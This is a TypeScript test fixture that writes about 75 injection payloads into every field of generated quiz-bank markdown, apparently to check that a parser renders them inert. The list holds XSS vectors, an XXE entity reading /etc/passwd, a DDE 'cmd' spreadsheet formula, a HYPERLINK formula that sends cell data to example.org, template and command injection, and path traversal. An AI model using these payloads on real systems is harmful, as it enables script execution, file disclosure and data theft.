/** Cards of an attacker. */

/** Text that something takes for more than text: a browser, a spreadsheet, a template, a shell, a reader of XML. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://example.org/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<iframe src="https://example.org"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://example.org"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed">x</p>',
  '<base href="https://example.org">',
  '<meta http-equiv="refresh" content="0;url=https://example.org">',
  '<link rel=stylesheet href=https://example.org>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<p id="location">x</p>',
  '<div name="cookie">x</div>',
  '</text></question><question type="x">',
  ']]>',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '&e; &#0; &#x1F; &lt;script&gt;',
  '<?xml version="1.0"?>',
  'a\u0001b\u0008c\uFFFEd\uFFFF',
  'half \uD83D a pair',
  '\u202Egnirts\u202C',
  '=1+1',
  '=HYPERLINK("https://example.org?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  "'=1+1",
  '"=1+1"',
  'a","=1+1',
  '{{constructor.constructor("alert(1)")()}}',
  '{{ env.HOME }}',
  '{% include "/etc/passwd" %}',
  '{#',
  '${alert(1)}',
  '$(touch x)',
  'file:///etc/passwd',
  '::x::{=y}',
  '}{=a ~b}',
  '$CATEGORY: x',
  '// comment',
  '\\{\\}\\~\\=\\#\\:\\\\n',
  '~%100%x',
  '[html]<b>x</b>',
  '[sound:x.mp3]',
  '[latex]\\input{/etc/passwd}[/latex]',
  '[$]x[/$]',
  '../../../../etc/passwd',
  '..\\..\\x',
  '##vso[task.setvariable]x',
  '::set-output name=x::y',
  '\u001B]0;x\u0007'
]

/** Where a payload is put. */
const places = ['title', 'question', 'option', 'answer'] as const

function write(place: (typeof places)[number], value: string): string {
  const at = (each: string, text: string): string =>
    each === place ? value : text
  const number = payloads.indexOf(value)
  return `### ${at('title', `Card ${number} of ${place}`)}

**Question:** ${at('question', 'What is it?')}

**Options:**

- [x] ${at('option', 'Right')}
- [ ] Wrong

**Explanation:** ${at('answer', 'It is.')}
`
}

const header = `---
bank:
  template:
    card: {depth: 3, prefix: ""}
    fields:
      - {label: Question, kind: content}
      - {label: Options, kind: options}
      - {label: Explanation, kind: content}
---

# Bank

## Section
`

/** A bank for each card: one that swallows the next would hide it. */
export const texts: readonly string[] = places.flatMap((place) =>
  payloads.map((value) => `${header}\n${write(place, value)}`)
)
